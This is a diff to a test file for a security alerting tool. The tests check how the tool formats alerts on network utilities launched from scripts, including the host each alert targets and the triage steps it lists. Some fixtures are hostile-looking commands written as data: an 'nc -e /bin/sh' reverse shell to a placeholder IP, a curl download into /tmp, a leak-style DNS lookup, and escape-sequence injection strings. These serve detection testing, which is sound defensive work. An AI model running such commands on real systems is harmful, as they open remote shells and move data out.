@@ -1,14 +1,22 @@
 import { describe, expect, it } from "vitest";
-import { formatAlertText, processTree } from "../../lib/alerts/format-text.js";
+import type { Alert } from "../../lib/alerts/alert.js";
+import { formatAlertText, formatTriageOnce, processTree, targetsLine } from "../../lib/alerts/format-text.js";
+import { RULE_METADATA } from "../../lib/rule/metadata.js";
 import { detect, exec, shell } from "../helpers/exec-events.js";
 
-async function alertFor(args: string[], parentArgs: string[] = ["/bin/sh", "/tmp/x.sh"]) {
+async function alertFor(
+  args: string[],
+  parentArgs: string[] = ["/bin/sh", "/tmp/x.sh"],
+  exe = "/usr/bin/curl",
+) {
   const { alerts } = await detect([
     shell(),
     exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: parentArgs }),
-    exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args }),
+    exec({ pid: 300, ppid: 200, exe, args }),
   ]);
-  return alerts[0]!;
+  const alert = alerts[0];
+  if (alert === undefined) throw new Error(`no alert for ${args.join(" ")}`);
+  return alert;
 }
 
 describe("formatAlertText", () => {
@@ -36,5 +44,69 @@ describe("formatAlertText", () => {
     expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
     expect(text.split("\n").filter((l) => l.includes("fake alert"))).toHaveLength(1);
     expect(text).toContain("\\x1b[2J\\n[CRITICAL] fake alert\\u202e");
+  });
+});
+
+describe("the targets line", () => {
+  const many = Array.from({ length: 10 }, (_, i) => `http://h${i}.example/`);
+  it.each([
+    ["curl: the URL's host", ["curl", "-o", "/tmp/k", "http://192.0.2.1/k"], "/usr/bin/curl", "192.0.2.1"],
+    [
+      "nslookup: the name queried, not the server",
+      ["nslookup", "vm.leak.example", "192.0.2.53"],
+      "/usr/bin/nslookup",
+      "vm.leak.example",
+    ],
+    ["dig: not the @resolver", ["dig", "@192.0.2.53", "example.org"], "/usr/bin/dig", "example.org"],
+    [
+      "nc: the host, not the port",
+      ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
+      "/usr/bin/nc",
+      "203.0.113.5",
+    ],
+    ["wget -i: read from a file", ["wget", "-i", "/tmp/urls"], "/usr/bin/wget", "none recognised"],
+    ["nmap: not parsed", ["nmap", "10.0.0.0/24"], "/usr/bin/nmap", "none recognised"],
+    [
+      "a hostile host is escaped",
+      ["curl", "http://e\u001b[31mvil.example\u202e/"],
+      "/usr/bin/curl",
+      "e\\x1b[31mvil.example\\u202e",
+    ],
+    [
+      "ten URLs: eight and a count",
+      ["curl", ...many],
+      "/usr/bin/curl",
+      "h0.example, h1.example, h2.example, h3.example, h4.example, h5.example, h6.example, h7.example, … 2 more",
+    ],
+  ])("%s", async (_name, args, exe, line) => {
+    const alert = await alertFor(args, ["/bin/sh", "/tmp/x.sh"], exe);
+    expect(targetsLine(alert)).toBe(line);
+    expect(formatAlertText(alert).split("\n")).toContain(`  targets    ${line}`);
+  });
+});
+
+describe("triage steps", () => {
+  it("triage: false leaves them out of the report", async () => {
+    const alert = await alertFor(["curl", "http://192.0.2.1/"]);
+    const text = formatAlertText(alert, { triage: false });
+    expect(text).not.toContain("triage");
+    expect(text).not.toContain("1. Check who ran the utility");
+    expect(text.split("\n").at(-1)).toMatch(/^ {2}rule netutil-writable-exec v/);
+  });
+
+  it("formatTriageOnce: the steps once per rule, with how many alerts they are for", async () => {
+    const alert = await alertFor(["curl", "http://192.0.2.1/"]);
+    const rule = `${RULE_METADATA.id} v${RULE_METADATA.version}`;
+    const steps = RULE_METADATA.triage.map((step, i) => `  ${i + 1}. ${step}`);
+    expect(formatTriageOnce([alert, alert, alert]).split("\n")).toEqual([
+      `triage, for each of the 3 alerts above (rule ${rule}):`,
+      ...steps,
+    ]);
+    expect(formatTriageOnce([alert]).split("\n")[0]).toBe(`triage, for the alert above (rule ${rule}):`);
+    const other: Alert = { ...alert, rule: { ...alert.rule, id: "other-rule" }, triage: ["Look \u001b[2J."] };
+    expect(formatTriageOnce([alert, other]).split("\n\n")).toEqual([
+      [`triage, for the alert above (rule ${rule}):`, ...steps].join("\n"),
+      `triage, for the alert above (rule other-rule v${RULE_METADATA.version}):\n  1. Look \\x1b[2J.`,
+    ]);
   });
 });
